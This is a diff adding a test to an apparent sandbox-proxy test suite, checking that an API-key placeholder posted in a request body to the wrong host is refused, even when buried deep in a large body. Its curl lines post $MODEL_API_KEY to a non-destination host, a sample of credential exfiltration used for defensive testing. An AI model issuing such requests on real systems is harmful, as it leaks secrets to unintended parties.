@@ -160,6 +160,29 @@ def test_placeholder_misdirected_is_refused(w):
     no_secret(r)
 
 
+def test_placeholder_in_a_body_is_refused(w):
+    """In a small body, and far into a large one (past the first reads),
+    a placeholder bound elsewhere stops the request before its bytes go
+    upstream; the credential's own destination may get it in a body."""
+    e = env(w)
+    m = len(e.arrived())
+    big = 200000
+    r = run(w, curl(OTHER + "/small", "-X POST --data-binary \"k=$MODEL_API_KEY\"") +
+            "(head -c %d /dev/zero | tr '\\0' a; printf %%s \"$MODEL_API_KEY\") > $HOME/big; " % big +
+            curl(OTHER + "/big", "-X POST --data-binary @$HOME/big") +
+            curl(API + "/v1/own", "-X POST --data-binary \"k=$MODEL_API_KEY\""))
+    assert codes(r) == ["403", "403", "200"], r
+    got = e.arrived(m)
+    # the origin never had a complete request with a placeholder
+    assert not [g for g in got if g["path"] == "/small"], got
+    assert all(g["body_len"] < big for g in got if g["path"] == "/big"), got
+    assert [g["path"] for g in got if g["path"] == "/v1/own"] == ["/v1/own"], got
+    mis = [l for l in r.proxy if l.get("event.reason") == "credential_misdirected"]
+    assert len(mis) == 2 and all(l["sluice.credential"] == "model-api" and l["event.severity"] == 73
+                                 for l in mis), r.proxy
+    no_secret(r)
+
+
 def test_secret_not_inside_the_sandbox(w):
     e = env(w)
     # a secret file the sandbox can see (the host is visible read-only;
